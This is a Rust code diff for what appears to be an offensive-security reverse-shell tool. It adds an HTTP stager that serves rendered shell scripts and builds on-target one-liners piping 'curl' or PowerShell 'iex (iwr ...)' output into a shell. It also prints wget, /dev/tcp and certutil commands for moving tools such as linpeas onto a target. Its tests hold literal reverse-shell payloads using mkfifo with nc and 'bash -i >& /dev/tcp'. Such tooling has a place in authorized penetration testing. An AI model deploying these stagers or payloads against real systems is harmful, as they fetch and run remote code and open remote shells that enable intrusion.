@@ -1,6 +1,6 @@
 use std::fs;
 use std::io::prelude::*;
-use std::net::{TcpListener, TcpStream};
+use std::net::{IpAddr, TcpStream};
 use std::path::{PathBuf};
 use std::sync::Arc;
 use std::thread;
@@ -11,6 +11,8 @@ use indicatif::{ProgressBar, ProgressStyle};
 use reqwest::blocking::Client;
 use std::time::Duration;
 use std::fs::File;
+use crate::config::Endpoints;
+use crate::payload;
 
 
 #[derive(Clone)]
@@ -18,6 +20,91 @@ pub struct StaticServer {
     host: String,
     port: u16,
     file_map: Arc<Vec<(String, PathBuf)>>,
+    stager: Option<Arc<Stager>>,
+}
+
+/// Renders `/s/<shell>[/<n>]` scripts: a shebang plus template `n` (default:
+/// the shell's `stager` number, else 1) filled in for the running listener.
+/// shelly.json is re-read on each request so staged content can change
+/// without retyping the on-target command.
+pub struct Stager {
+    pub config: json::JsonValue,
+    pub endpoints: Endpoints,
+    pub token: Option<String>,
+}
+
+/// What a request was answered with
+#[derive(PartialEq)]
+enum Served {
+    File,
+    Stager,
+    Nothing,
+}
+
+impl Stager {
+    pub fn new(config: json::JsonValue, endpoints: Endpoints, token: Option<String>) -> Self {
+        Stager {
+            config,
+            endpoints,
+            token,
+        }
+    }
+
+    /// The script for a `/s/...` path, or None for an unknown shell/template.
+    /// Each fetch is recorded in the payload history (with its own token when
+    /// tokens are enforced) so the session it starts can be traced back.
+    pub fn script(&self, path: &str, peer: Option<IpAddr>) -> Option<String> {
+        let mut parts = path.trim_start_matches("s/").splitn(2, '/');
+        let shell = parts.next()?;
+        let config = crate::config::reload_config().unwrap_or_else(|| self.config.clone());
+        let shell_obj = &config["shells"][shell];
+        let number = match parts.next() {
+            Some(n) => n.parse::<usize>().ok()?,
+            None => default_template(shell_obj),
+        };
+        let template = payload::templates(shell_obj).into_iter().nth(number.checked_sub(1)?)?;
+
+        let token = self.token.as_ref().map(|_| crate::token::generate());
+        let vars = payload::Vars::new(shell, shell_obj, &self.endpoints, token.as_deref());
+        let command = payload::render(&template.command, &vars).command;
+        crate::session::PAYLOAD_HISTORY.record(shell, number, token, None, peer);
+        if template.os.as_deref() == Some("windows") {
+            Some(format!("{}\r\n", command))
+        } else if payload::needs_bash(&command) {
+            Some(format!("#!/bin/bash\n{}\n", command))
+        } else {
+            Some(format!("#!/bin/sh\n{}\n", command))
+        }
+    }
+
+    /// On-target one-liner fetching `/s/<shell>[/<n>]` for the listener in
+    /// `vars`, piped to bash when the template needs it
+    pub fn command(vars: &payload::Vars, shell_obj: &json::JsonValue, number: Option<usize>) -> String {
+        let template = number
+            .unwrap_or_else(|| default_template(shell_obj))
+            .checked_sub(1)
+            .and_then(|i| payload::templates(shell_obj).into_iter().nth(i));
+        let windows = template.as_ref().is_some_and(|t| t.os.as_deref() == Some("windows"));
+        let bash = template.is_some_and(|t| payload::needs_bash(&payload::render(&t.command, vars).command));
+        let mut url = format!(
+            "http://{}/s/{}",
+            crate::helpers::host_port(&vars.ip, vars.http_port),
+            vars.shell
+        );
+        if let Some(n) = number {
+            url.push_str(&format!("/{}", n));
+        }
+        if windows {
+            format!("powershell -c \"iex (iwr -UseBasicParsing {})\"", url)
+        } else {
+            format!("curl -fsSL {} | {}", url, if bash { "bash" } else { "sh" })
+        }
+    }
+}
+
+/// The template `/s/<shell>` serves when no number is given
+fn default_template(shell_obj: &json::JsonValue) -> usize {
+    shell_obj["stager"].as_usize().unwrap_or(1)
 }
 
 impl StaticServer {
@@ -56,15 +143,27 @@ impl StaticServer {
             host: host.to_string(),
             port,
             file_map: Arc::new(map),
+            stager: None,
         })
     }
 
+    /// Also answer `/s/<shell>` with rendered stager scripts
+    pub fn with_stager(mut self, stager: Stager) -> Self {
+        self.stager = Some(Arc::new(stager));
+        self
+    }
+
     /// Start serving. This call blocks the current thread and spawns a new thread
     /// per connection. After one file has been fully served successfully (200 OK),
-    /// the server shuts down (oneshot).
+    /// the server shuts down (oneshot). Stager scripts don't count, since they
+    /// usually fetch a file next.
     pub fn serve(&self) -> Result<(), String> {
-        let endpoint = format!("{}:{}", self.host, self.port);
-        let listener = TcpListener::bind(&endpoint)
+        let endpoint = if self.host.contains(':') {
+            format!("[{}]:{}", self.host, self.port)
+        } else {
+            format!("{}:{}", self.host, self.port)
+        };
+        let listener = crate::helpers::bind_tcp(&self.host, self.port)
             .map_err(|e| format!("failed to bind {}: {}", endpoint, e))?;
         println!("StaticServer listening on {}", endpoint);
 
@@ -80,15 +179,12 @@ impl StaticServer {
             // check for any incoming connection
             match listener.accept() {
                 Ok((stream, _addr)) => {
-                    let file_map = self.file_map.clone();
+                    let server = self.clone();
                     let tx_clone: Sender<()> = tx.clone();
                     thread::spawn(move || {
-                        // handle_connection returns true if it served a file (200 OK).
-                        if let Ok(served) = handle_connection(stream, &file_map) {
-                            if served {
-                                // signal main thread to shutdown
-                                let _ = tx_clone.send(());
-                            }
+                        if let Ok(Served::File) = server.handle_connection(stream) {
+                            // signal main thread to shutdown
+                            let _ = tx_clone.send(());
                         }
                     });
                 }
@@ -120,20 +216,68 @@ impl StaticServer {
 
         Ok(())
     }
+
+    /// Answer a single HTTP request on an already accepted connection, for
+    /// listeners that share their port with the file server.
+    /// Returns whether anything was served.
+    pub fn handle(&self, stream: TcpStream) -> Result<bool, String> {
+        Ok(self.handle_connection(stream)? != Served::Nothing)
+    }
+
+    fn handle_connection(&self, mut stream: TcpStream) -> Result<Served, String> {
+        let mut buffer = [0u8; 2048];
+        let n = stream
+            .read(&mut buffer)
+            .map_err(|e| format!("failed to read from stream: {}", e))?;
+        if n == 0 {
+            return Ok(Served::Nothing);
+        }
+        let request_str = String::from_utf8_lossy(&buffer[..n]);
+        let request_path = parse_request_path(&request_str);
+
+        if let Some(stager) = &self.stager
+            && request_path.starts_with("/s/")
+        {
+            return serve_stager(stager, &request_path, &mut stream);
+        }
+        match serve_requested_file(&request_path, &mut stream, &self.file_map)? {
+            true => Ok(Served::File),
+            false => Ok(Served::Nothing),
+        }
+    }
 }
 
-fn handle_connection(mut stream: TcpStream, file_map: &[(String, PathBuf)]) -> Result<bool, String> {
-    let mut buffer = [0u8; 2048];
-    let n = stream
-        .read(&mut buffer)
-        .map_err(|e| format!("failed to read from stream: {}", e))?;
-    if n == 0 {
-        return Ok(false);
+/// Answer a `/s/...` request with a rendered stager script
+fn serve_stager(stager: &Stager, request_path: &str, stream: &mut TcpStream) -> Result<Served, String> {
+    let peer = stream.peer_addr().ok();
+    if let (Some(peer), Ok(local)) = (peer, stream.local_addr())
+        && !crate::scope::allow(peer.ip(), &format!("http:{}", local.port()))
+    {
+        write_response(stream, &http_403_response("403 Forbidden."))?;
+        return Ok(Served::Nothing);
     }
-    let request_str = String::from_utf8_lossy(&buffer[..n]);
-    let request_path = parse_request_path(&request_str);
 
-    serve_requested_file(&request_path, &mut stream, file_map)
+    let Some(script) = stager.script(request_path.trim_start_matches('/'), peer.map(|p| p.ip().to_canonical())) else {
+        write_response(stream, &http_404_response("404 Not Found."))?;
+        return Ok(Served::Nothing);
+    };
+    if let Some(peer) = peer {
+        println!("\n[*] Stager {} fetched by {}", request_path, peer.ip().to_canonical());
+    }
+    let resp = format!(
+        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{}",
+        script.len(),
+        script
+    );
+    write_response(stream, &resp)?;
+    Ok(Served::Stager)
+}
+
+fn write_response(stream: &mut TcpStream, resp: &str) -> Result<(), String> {
+    stream
+        .write_all(resp.as_bytes())
+        .map_err(|e| format!("write error: {}", e))?;
+    stream.flush().map_err(|e| format!("flush error: {}", e))
 }
 
 fn parse_request_path(request: &str) -> String {
@@ -152,6 +296,17 @@ fn serve_requested_file(
     stream: &mut TcpStream,
     file_map: &[(String, PathBuf)],
 ) -> Result<bool, String> {
+    if let (Ok(peer), Ok(local)) = (stream.peer_addr(), stream.local_addr())
+        && !crate::scope::allow(peer.ip(), &format!("http:{}", local.port()))
+    {
+        let resp = http_403_response("403 Forbidden.");
+        stream
+            .write_all(resp.as_bytes())
+            .map_err(|e| format!("write error: {}", e))?;
+        stream.flush().map_err(|e| format!("flush error: {}", e))?;
+        return Ok(false);
+    }
+
     // normalize incoming path: strip leading slash
     let normalized = if request_path == "/" {
         "".to_string()
@@ -180,7 +335,7 @@ fn serve_requested_file(
                     .write_all(&resp)
                     .map_err(|e| format!("write error: {}", e))?;
                 stream.flush().map_err(|e| format!("flush error: {}", e))?;
-                return Ok(true);
+                Ok(true)
             }
             Err(_) => {
                 let resp = http_404_response("404 Not Found.");
@@ -188,7 +343,7 @@ fn serve_requested_file(
                     .write_all(resp.as_bytes())
                     .map_err(|e| format!("write error: {}", e))?;
                 stream.flush().map_err(|e| format!("flush error: {}", e))?;
-                return Ok(false);
+                Ok(false)
             }
         }
     } else {
@@ -201,6 +356,14 @@ fn serve_requested_file(
     }
 }
 
+fn http_403_response(body: &str) -> String {
+    format!(
+        "HTTP/1.1 403 FORBIDDEN\r\nContent-Length: {}\r\n\r\n{}",
+        body.len(),
+        body
+    )
+}
+
 fn http_404_response(body: &str) -> String {
     format!(
         "HTTP/1.1 404 NOT FOUND\r\nContent-Length: {}\r\n\r\n{}",
@@ -209,11 +372,44 @@ fn http_404_response(body: &str) -> String {
     )
 }
 
+/// Serve `serve_files` on the endpoints' HTTP port and print how to fetch
+/// each of them from the target
 pub fn build_from_config(
     serve_files: &[String],
     config: &json::JsonValue,
-    port: u16,
-) {
+    endpoints: &Endpoints,
+    stager: Option<Stager>,
+) -> Result<(), String> {
+    let files = collect_from_config(serve_files, config)?;
+    print_transfer_commands(&files, endpoints);
+    spawn_server(files, endpoints, stager)
+}
+
+/// Serve `files` on the endpoints' HTTP port in the background
+pub fn spawn_server(
+    files: Vec<(String, PathBuf)>,
+    endpoints: &Endpoints,
+    stager: Option<Stager>,
+) -> Result<(), String> {
+    let mut server = StaticServer::new(&endpoints.bind_host, endpoints.http_port, files)?;
+    if let Some(stager) = stager {
+        server = server.with_stager(stager);
+    }
+    let _handle = thread::spawn(move || {
+        if let Err(e) = server.serve() {
+            eprintln!("⚠️  HTTP server stopped: {}", e);
+        }
+    });
+    Ok(())
+}
+
+/// Resolve `serve` entries against the toolbox, offering to download missing
+/// files. Returns the (public name, path) pairs ready for `StaticServer::new`,
+/// or an error if a download needs answering in non-interactive mode.
+pub fn collect_from_config(
+    serve_files: &[String],
+    config: &json::JsonValue,
+) -> Result<Vec<(String, PathBuf)>, String> {
     let home = home_dir().expect("Could not determine home directory");
     let mut toolbox_path = PathBuf::from(&home);
     toolbox_path.push(".shelly");
@@ -225,7 +421,7 @@ pub fn build_from_config(
     // Ensure toolbox dir exists
     if let Err(e) = fs::create_dir_all(&toolbox_path) {
         eprintln!("Failed to create toolbox directory {}: {}", toolbox_path.display(), e);
-        return;
+        return Ok(files);
     }
 
     let client = Client::builder()
@@ -247,46 +443,38 @@ pub fn build_from_config(
     
                                 if full_path.exists() {
                                     files.push((filename_val.to_string(), full_path));
-                                } else {
-                                    if let Some(download_url) = arch_val["download"].as_str() {
-                                        println!(
-                                            "Toolbox file missing for '{}', arch '{}': {}",
-                                            serve_file,
-                                            arch_key,
-                                            full_path.display()
-                                        );
-                                        print!("Download {} from {}? [Y/n]: ", filename_val, download_url);
-                                        io::stdout().flush().ok();
-                                        let mut input = String::new();
-                                        if io::stdin().read_line(&mut input).is_ok() {
-                                            let resp = input.trim();
-                                            if resp.is_empty() || resp.eq_ignore_ascii_case("y") || resp.eq_ignore_ascii_case("yes") {
-                                                if let Err(e) = download_to_path_blocking(&client, download_url, &full_path) {
-                                                    eprintln!("Failed to download {}: {}", download_url, e);
-                                                } else {
-                                                    println!("Downloaded to {}", full_path.display());
-                                                    #[cfg(unix)]
-                                                    {
-                                                        use std::os::unix::fs::PermissionsExt;
-                                                        if let Ok(mut perms) = fs::metadata(&full_path).map(|m| m.permissions()) {
-                                                            perms.set_mode(0o755);
-                                                            let _ = fs::set_permissions(&full_path, perms);
-                                                        }
-                                                    }
-                                                    files.push((filename_val.to_string(), full_path));
+                                } else if let Some(download_url) = arch_val["download"].as_str() {
+                                    println!(
+                                        "Toolbox file missing for '{}', arch '{}': {}",
+                                        serve_file,
+                                        arch_key,
+                                        full_path.display()
+                                    );
+                                    if download_wanted(filename_val, download_url)? {
+                                        if let Err(e) = download_to_path_blocking(&client, download_url, &full_path) {
+                                            eprintln!("Failed to download {}: {}", download_url, e);
+                                        } else {
+                                            println!("Downloaded to {}", full_path.display());
+                                            #[cfg(unix)]
+                                            {
+                                                use std::os::unix::fs::PermissionsExt;
+                                                if let Ok(mut perms) = fs::metadata(&full_path).map(|m| m.permissions()) {
+                                                    perms.set_mode(0o755);
+                                                    let _ = fs::set_permissions(&full_path, perms);
                                                 }
-                                            } else {
-                                                println!("Skipping download for {}", filename_val);
                                             }
+                                            files.push((filename_val.to_string(), full_path));
                                         }
                                     } else {
-                                        println!(
-                                            "Toolbox file missing for '{}', arch '{}': {} (no download URL)",
-                                            serve_file,
-                                            arch_key,
-                                            full_path.display()
-                                        );
+                                        println!("Skipping download for {}", filename_val);
                                     }
+                                } else {
+                                    println!(
+                                        "Toolbox file missing for '{}', arch '{}': {} (no download URL)",
+                                        serve_file,
+                                        arch_key,
+                                        full_path.display()
+                                    );
                                 }
                             } else {
                                 println!(
@@ -304,10 +492,80 @@ pub fn build_from_config(
             }
         }
 
-    let server = StaticServer::new("0.0.0.0", port, files).expect("server init failed");
-     let _handle = thread::spawn(move || {
-         server.serve().expect("serve failed");
-     });
+    Ok(files)
+}
+
+/// Commands fetching `filename` from the static server at `host:port` into
+/// /tmp (or %TEMP% on windows), as (tool, command) pairs. The bash /dev/tcp
+/// one is left out for IPv6 hosts, which it doesn't reliably reach.
+pub fn transfer_commands(host: &str, port: u16, filename: &str) -> Vec<(&'static str, String)> {
+    let url = format!("http://{}/{}", crate::helpers::host_port(host, port), filename);
+    let dest = format!("/tmp/{}", filename);
+    let mut commands = vec![
+        ("wget", format!("wget -q {} -O {}", url, dest)),
+        ("curl", format!("curl -fsSL {} -o {}", url, dest)),
+    ];
+    if !crate::helpers::is_ipv6(host) {
+        commands.push((
+            "bash",
+            format!(
+                "exec 3<>/dev/tcp/{}/{}; printf 'GET /{} HTTP/1.0\\r\\n\\r\\n' >&3; (while read -r l && [ \"$l\" != $'\\r' ]; do :; done; cat) <&3 >{}; exec 3<&-",
+                host, port, filename, dest
+            ),
+        ));
+    }
+    commands.extend([
+        (
+            "python",
+            format!(
+                "python3 -c \"import urllib.request; urllib.request.urlretrieve('{}', '{}')\"",
+                url, dest
+            ),
+        ),
+        ("iwr", format!("iwr -UseBasicParsing {} -OutFile $env:TEMP\\{}", url, filename)),
+        ("certutil", format!("certutil -urlcache -split -f {} %TEMP%\\{}", url, filename)),
+    ]);
+    commands
+}
+
+/// Print the fetch commands for every served file, using the advertised
+/// host and HTTP port
+pub fn print_transfer_commands(files: &[(String, PathBuf)], endpoints: &Endpoints) {
+    for (name, _) in files {
+        println!("ℹ️  Fetch {} on the target with:", name);
+        for (tool, command) in transfer_commands(&endpoints.advertise_host, endpoints.advertise_http_port, name) {
+            println!("    {:<9}{}", tool, command);
+        }
+        println!();
+    }
+}
+
+/// Whether to fetch a missing toolbox file, asking unless a flag answered
+fn download_wanted(filename: &str, url: &str) -> Result<bool, String> {
+    let prompts = crate::config::prompts();
+    if prompts.no_download {
+        return Ok(false);
+    }
+    if prompts.download || prompts.assume_yes {
+        return Ok(true);
+    }
+    if prompts.non_interactive {
+        return Err(format!(
+            "{} is missing from the toolbox; pass --download or --no-download",
+            filename
+        ));
+    }
+
+    print!("Download {} from {}? [Y/n]: ", filename, url);
+    io::stdout().flush().ok();
+    let mut input = String::new();
+    // EOF (a closed or redirected stdin) isn't someone pressing Enter
+    if !matches!(io::stdin().read_line(&mut input), Ok(n) if n > 0) {
+        println!();
+        return Ok(false);
+    }
+    let resp = input.trim();
+    Ok(resp.is_empty() || resp.eq_ignore_ascii_case("y") || resp.eq_ignore_ascii_case("yes"))
 }
 
 fn download_to_path_blocking(client: &Client, url: &str, dest: &PathBuf) -> Result<(), Box<dyn std::error::Error>> {
@@ -373,3 +631,54 @@ fn download_to_path_blocking(client: &Client, url: &str, dest: &PathBuf) -> Resu
 
     Ok(())
 }
+
+#[cfg(test)]
+mod tests {
+    use super::{Stager, transfer_commands};
+    use crate::payload::Vars;
+
+    fn tools(commands: &[(&str, String)]) -> Vec<String> {
+        commands.iter().map(|(tool, _)| tool.to_string()).collect()
+    }
+
+    #[test]
+    fn transfer_commands_ipv4() {
+        let commands = transfer_commands("10.0.0.1", 8000, "linpeas.sh");
+        assert_eq!(tools(&commands), ["wget", "curl", "bash", "python", "iwr", "certutil"]);
+        assert_eq!(commands[0].1, "wget -q http://10.0.0.1:8000/linpeas.sh -O /tmp/linpeas.sh");
+        assert!(commands[2].1.starts_with("exec 3<>/dev/tcp/10.0.0.1/8000; printf 'GET /linpeas.sh HTTP/1.0"));
+        assert!(commands[2].1.contains(">/tmp/linpeas.sh;"));
+        assert_eq!(commands[5].1, "certutil -urlcache -split -f http://10.0.0.1:8000/linpeas.sh %TEMP%\\linpeas.sh");
+    }
+
+    #[test]
+    fn transfer_commands_ipv6_skip_bash() {
+        let commands = transfer_commands("fd00::1", 8000, "socat");
+        assert_eq!(tools(&commands), ["wget", "curl", "python", "iwr", "certutil"]);
+        assert_eq!(commands[1].1, "curl -fsSL http://[fd00::1]:8000/socat -o /tmp/socat");
+    }
+
+    #[test]
+    fn stager_pipes_to_bash_when_needed() {
+        let shell_obj = json::parse(r#"{"templates": [
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f",
+            "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
+            {"command": "powershell -nop -c 1", "os": "windows"}
+        ], "stager": 2}"#)
+        .unwrap();
+        let vars = Vars {
+            ip: "10.0.0.1".to_string(),
+            port: 4444,
+            http_port: 8000,
+            token: None,
+            shell: "rev".to_string(),
+            custom: Vec::new(),
+        };
+        assert_eq!(Stager::command(&vars, &shell_obj, Some(1)), "curl -fsSL http://10.0.0.1:8000/s/rev/1 | sh");
+        assert_eq!(Stager::command(&vars, &shell_obj, None), "curl -fsSL http://10.0.0.1:8000/s/rev | bash");
+        assert_eq!(
+            Stager::command(&vars, &shell_obj, Some(3)),
+            "powershell -c \"iex (iwr -UseBasicParsing http://10.0.0.1:8000/s/rev/3)\""
+        );
+    }
+}